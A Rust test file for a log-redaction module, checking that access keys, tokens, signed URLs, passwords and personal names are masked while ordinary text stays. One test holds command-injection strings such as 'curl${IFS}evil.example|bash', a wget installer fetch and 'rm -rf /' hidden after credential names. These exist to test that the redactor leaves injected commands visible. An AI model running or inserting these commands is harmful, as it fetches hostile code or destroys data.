use proptest::prelude::*;

use super::*;

fn swept(seen: &[&str], text: &str) -> String {
    let mut noted = Seen::default();
    seen.iter().for_each(|value| noted.note(value));
    free(&noted, text)
}

fn free(seen: &Seen, text: &str) -> String {
    seen.sweep(text, Text::Free, &mut BTreeMap::new())
}

#[test]
fn secrets_are_known_by_their_form() {
    for (text, expected) in [
        ("key LTAI5tQ9wEr7TyU2iO4p.", "key [masked]."),
        ("my_LTAI5tQ9wEr7TyU2iO4p_key", "my_[masked]_key"),
        ("STS.NUabcdefgh1234567890", "[masked]"),
        ("id_STS.NUabcdefgh1234567890", "id_[masked]"),
        ("TMP.3Kabcdefghijkl", "[masked]"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "[masked]"),
        (
            "https://b.oss.example/k?Expires=1&OSSAccessKeyId=LTAIxyz123456789&Signature=vjbyPxyb%2BT272YEAiv4%3D&x=1",
            "https://b.oss.example/k?Expires=1&OSSAccessKeyId=[masked]&Signature=[masked]&x=1",
        ),
        (
            "https://b.example/?x-oss-security-token=CAISabcd12345678&x-oss-signature=0123456789abcdef",
            "https://b.example/?x-oss-security-token=[masked]&x-oss-signature=[masked]",
        ),
        ("https://tb.example/?token=abcdefgh12345678", "https://tb.example/?token=[masked]"),
        (
            "git clone https://ci:a1B2c3D4@code.example/a.git",
            "git clone https://ci:[masked]@code.example/a.git",
        ),
        ("://:a1B2c3D4@", "://:[masked]@"),
        ("https://ghp_a1B2c3D4e5F6g7H8i9@code.example/a", "https://[masked]@code.example/a"),
        ("Authorization: Bearer abcdef.123456789", "Authorization: Bearer [masked]"),
        ("password=hunter2222222222;", "password=[masked];"),
        ("accessKeySecret: a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5", "accessKeySecret: [masked]"),
        (
            "x-acs-accesskey-id:STSredline0123456\nx-acs-security-token:CAISabcd/1234+5678==\nx-acs-version:1",
            "x-acs-accesskey-id:[masked]\nx-acs-security-token:[masked]\nx-acs-version:1",
        ),
    ] {
        assert_eq!(swept(&[], text), expected);
    }
}

/// In what a program printed, nothing needs to be seen that only looks like a secret or a person.
#[test]
fn what_a_program_printed_is_swept_by_more_forms() {
    let printed = |text: &str| Seen::default().sweep(text, Text::Printed, &mut BTreeMap::new());
    for (text, expected) in [
        (
            "set --access-key-id AbCdEf0123 --access-key-secret a1B2c3D4",
            "set --access-key-id [masked] --access-key-secret [masked]",
        ),
        ("mysql -u root --password hunter2hunter2", "mysql -u root --password [masked]"),
        (
            r#"{"secret": "a1B2c3D4e5", "api_key":"0123456789"}"#,
            r#"{"secret": "[masked]", "api_key":"[masked]"}"#,
        ),
        ("DB_PASSWORD=hunter22", "DB_PASSWORD=[masked]"),
        ("by UserId=203918475562018833 (wu.fang@corp.example)", "by UserId=[masked] ([masked])"),
        ("hf_Qx7TbZ2mLr9KpVw4aa ghp_0123456789abcdefghij", "[masked] [masked]"),
        ("token LTAI5tQ9wEr7TyU2iO4p", "token [masked]"),
    ] {
        assert_eq!(printed(text), expected);
    }
    for text in [
        "epoch 3 step 17/20 loss=0.1234 tokens=123456789 tokenizer=bert-base-uncased",
        "  File \"/root/code/train.py\", line 214, in <module>",
        "2026-01-02T03:04:05Z Normal Pulled Successfully pulled image \"registry/pytorch:2.3\"",
        "the user said: no secret here, keyboard --key",
    ] {
        assert_eq!(printed(text), text);
    }
}

#[test]
fn a_secret_that_begins_within_is_swept_wherever_it_ends() {
    let mut seen = Seen::default();
    seen.note("zhangwei-canary");
    let cut = |end| seen.sweep_until("ab zhangwei-canary cd", end, Text::Free, &mut BTreeMap::new());
    assert_eq!(
        [cut(3), cut(4), cut(10), cut(18), cut(20)],
        ["ab ", "ab [masked]", "ab [masked]", "ab [masked]", "ab [masked] c"]
    );
}

#[test]
fn ordinary_words_stay() {
    for text in [
        "registry-vpc.cn-hangzhou.cr.aliyuncs.com/pai-dlc/pytorch-training:2.3-gpu",
        "tokenizer=bert-base-uncased",
        "token=short",
        "token=sixteen-is-more",
        "x-acs-security-token:\nx-acs-signature-nonce:1",
        "ssh://git@code.example/a.git",
        "https://ci:short@code.example/a.git",
        "https://registry.example:5000@sha256",
        "https://code.example/a:12345678@b",
        "LTAI is how access keys begin",
        "POSTS.internationalisation2024",
        "the bearer of news",
        "signature",
        "2026-01-02T03:04:05Z",
    ] {
        assert_eq!(swept(&[], text), text);
    }
}

#[test]
fn short_values_go_only_where_they_stand_alone() {
    let seen = ["admin", "zhang", "5714"];
    for (text, expected) in [
        ("administrator", "administrator"),
        ("admin", "[masked]"),
        ("by admin, zhang.", "by [masked], [masked]."),
        ("admin_team", "[masked]_team"),
        ("badmin", "badmin"),
        ("zhangwei", "zhangwei"),
        ("15714", "15714"),
        ("****5714", "****[masked]"),
        ("管理admin员", "管理admin员"),
    ] {
        assert_eq!(swept(&seen, text), expected);
    }
}

#[test]
fn long_values_and_names_in_other_scripts_go_everywhere() {
    assert_eq!(swept(&["zhangwei-canary"], "xzhangwei-canary9"), "x[masked]9");
    assert_eq!(swept(&["张伟"], "负责人张伟同意"), "负责人[masked]同意");
}

#[test]
fn values_too_short_to_be_told_apart_are_not_noted() {
    assert_eq!(swept(&["", "a", "abc", "张"], "a abc 张"), "a abc 张");
}

/// A value that is left alone must not hide one that begins inside it.
#[test]
fn overlapping_values_all_go() {
    assert_eq!(swept(&["abcd", "cdSECRETSECRET"], "xabcdSECRETSECRET!"), "xab[masked]!");
    assert_eq!(swept(&["one-two-three", "two-three-four"], "one-two-three-four"), "[masked]");
    assert_eq!(swept(&["zhangwei-canary", "zhangwei-canary-7f3a"], "zhangwei-canary-7f3a"), "[masked]");
    assert_eq!(swept(&["canary-canary"], "canary-canarycanary-canary"), "[masked][masked]");
}

#[test]
fn what_was_taken_out_is_counted() {
    let mut seen = Seen::default();
    seen.note("zhangwei-canary");
    let mut redactions = BTreeMap::new();
    let value = serde_json::json!({ "a": ["zhangwei-canary", "LTAI5tQ9wEr7TyU2iO4p"], "b": 5, "c": "fine" });
    let swept = seen.sweep_value(value, &mut redactions);
    assert_eq!(swept, serde_json::json!({ "a": ["[masked]", "[masked]"], "b": 5, "c": "fine" }));
    assert_eq!(redactions, BTreeMap::from([("swept".to_owned(), 2)]));
}

#[test]
fn numbers_that_identify_go_too() {
    let mut seen = Seen::default();
    seen.note("1095312831785714");
    seen.note("1234");
    let swept =
        seen.sweep_value(serde_json::json!([1_095_312_831_785_714_u64, 1234, 1.5]), &mut BTreeMap::new());
    assert_eq!(swept, serde_json::json!(["[masked]", 1234, 1.5]));
}

#[test]
fn settings_are_noted_only_when_they_look_like_secrets() {
    let mut seen = Seen::default();
    for value in
        ["train", "/mnt/data/run-2024-0001", "cn-hangzhou-0001.example", "16", "hello world 2024 abc"]
    {
        seen.note_setting(value);
    }
    seen.note_setting("wandb-canary-5d2c8f1e7a90b346");
    let text = "train /mnt/data/run-2024-0001 wandb-canary-5d2c8f1e7a90b346";
    assert_eq!(free(&seen, text), "train /mnt/data/run-2024-0001 [masked]");
}

/// What follows a name like `token` is hidden only as far as a credential goes: nobody hides a command there.
#[test]
fn commands_cannot_hide_behind_a_name() {
    for (text, expected) in [
        ("token=$(curl${IFS}evil.example|bash)", "token=$(curl${IFS}evil.example|bash)"),
        ("password=`wget${IFS}evil.example/installer`", "password=`wget${IFS}evil.example/installer`"),
        ("token= /opt/evil/installer.sh", "token= /opt/evil/installer.sh"),
        ("token:\n/opt/evil/installer.sh", "token:\n/opt/evil/installer.sh"),
        ("Bearer\n/opt/evil/installer.sh", "Bearer\n/opt/evil/installer.sh"),
        ("token=abcdefgh12345678|bash", "token=[masked]|bash"),
        ("token=abcdefgh12345678$(curl evil.example)", "token=[masked]$(curl evil.example)"),
        ("Bearer abcdefgh12345678;rm${IFS}-rf${IFS}/", "Bearer [masked];rm${IFS}-rf${IFS}/"),
    ] {
        assert_eq!(swept(&[], text), expected);
    }
}

/// A name inside a credential takes nothing of it out of sight of the patterns.
#[test]
fn a_credential_goes_whole_whoever_is_named_in_it() {
    assert_eq!(swept(&["admin"], "token=abcdefg-admin-hijklmn by admin"), "token=[masked] by [masked]");
}

/// What stands in an identifier by chance stays; a credential goes from every text.
#[test]
fn what_is_swept_depends_on_what_a_text_is() {
    let mut seen = Seen::default();
    for value in ["vision", "Running", "1001", "zhangwei-canary", "张伟"] {
        seen.note(value);
    }
    for (text, expected) in [
        (
            "registry/vision/pytorch:2.1",
            ["registry/[masked]/pytorch:2.1", "registry/vision/pytorch:2.1", "registry/vision/pytorch:2.1"],
        ),
        ("Running", ["[masked]", "Running", "Running"]),
        ("1001", ["[masked]", "1001", "1001"]),
        ("reg/zhangwei-canary/i", ["reg/[masked]/i", "reg/zhangwei-canary/i", "reg/[masked]/i"]),
        ("o=张伟", ["o=[masked]", "o=张伟", "o=[masked]"]),
        ("?token=abcdefgh12345678", ["?token=[masked]", "?token=[masked]", "?token=[masked]"]),
        ("id-LTAI5tQ9wEr7TyU2iO4p", ["id-[masked]", "id-[masked]", "id-[masked]"]),
    ] {
        let swept =
            [Text::Free, Text::Exact, Text::Given].map(|kind| seen.sweep(text, kind, &mut BTreeMap::new()));
        assert_eq!(swept, expected, "{text}");
    }
}

#[test]
fn regions_are_nobodys_names() {
    for (region, _) in crate::spec::value::REGIONS {
        assert_eq!(
            swept(&[region], &format!("PAI isn't activated in {region}")),
            format!("PAI isn't activated in {region}")
        );
    }
}

#[test]
fn of_too_many_values_the_oldest_go_first() {
    let mut seen = Seen::default();
    for index in 0..CAPACITY + 2 {
        seen.note(&format!("identity-number-{index}."));
    }
    seen.note("identity-number-2.");
    assert_eq!((seen.noted.len(), seen.order.len()), (CAPACITY, CAPACITY));
    let last = CAPACITY + 1;
    let text = format!("identity-number-0. identity-number-1. identity-number-2. identity-number-{last}.");
    assert_eq!(free(&seen, &text), "identity-number-0. identity-number-1. [masked] [masked]");
}

#[test]
fn a_pinned_value_is_never_forgotten() {
    let mut seen = Seen::default();
    seen.note("noted-then-pinned");
    for value in ["noted-then-pinned", "pinned-then-noted", "sim1", "abc"] {
        seen.pin(value);
    }
    seen.note("pinned-then-noted");
    for index in 0..=CAPACITY {
        seen.note(&format!("identity-number-{index}."));
    }
    assert_eq!((seen.noted.len(), seen.order.len(), seen.pinned.len()), (CAPACITY, CAPACITY, 3));
    let text = "noted-then-pinned pinned-then-noted sim1 sim12 abc";
    assert_eq!(free(&seen, text), "[masked] [masked] [masked] sim12 abc");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_long_value_survives(
        values in prop::collection::vec("[a-z0-9@._张 -]{12,20}", 1..6),
        pieces in prop::collection::vec((any::<prop::sample::Index>(), ".{0,5}", 0..8_usize), 0..6),
    ) {
        let mut seen = Seen::default();
        values.iter().for_each(|value| seen.note(value));
        let mut text = String::new();
        for (index, between, cut) in &pieces {
            let value = index.get(&values);
            text.extend(value.chars().skip(*cut));
            text.push_str(value);
            text.push_str(between);
        }
        let swept = free(&seen, &text);
        for value in &values {
            prop_assert!(!swept.contains(value.as_str()), "{} in {}", value, swept);
        }
    }
}

/// What the process's own credentials and a reply's secrets are isn't shown anywhere, an identifier included; who
/// people are stays out of free texts only.
#[test]
fn a_secret_is_swept_out_of_identifiers_too() {
    let mut seen = Seen::default();
    seen.pin("a-key-of-the-server");
    seen.note_secret("a-password-of-a-reply");
    seen.note_secret("short");
    seen.note("a-person-of-a-reply");
    let exact = |text: &str| seen.sweep(text, Text::Exact, &mut BTreeMap::new());
    assert_eq!(exact("running-a-key-of-the-server"), "running-[masked]");
    assert_eq!(exact("a-password-of-a-reply/x"), "[masked]/x");
    assert_eq!(exact("short/a-person-of-a-reply"), "short/a-person-of-a-reply");
    assert!(seen.holds_secret("x/a-password-of-a-reply") && !seen.holds_secret("a-person-of-a-reply"));
}

/// However much a cloud calls personal, what is kept of it is bounded; the newest is kept.
#[test]
fn what_is_kept_has_bounded_bytes() {
    let mut seen = Seen::default();
    let value = |number: usize| format!("{number:08}{}", "x".repeat(10_000));
    (0..300).for_each(|number| seen.note(&value(number)));
    assert!(
        seen.bytes <= ROOM && seen.noted.len() < 110,
        "{} bytes, {} values",
        seen.bytes,
        seen.noted.len()
    );
    assert_eq!(free(&seen, &value(299)), "[masked]");
    seen.note(&"y".repeat(3 * LONGEST));
    assert_eq!(free(&seen, &"y".repeat(LONGEST)), "[masked]");
}
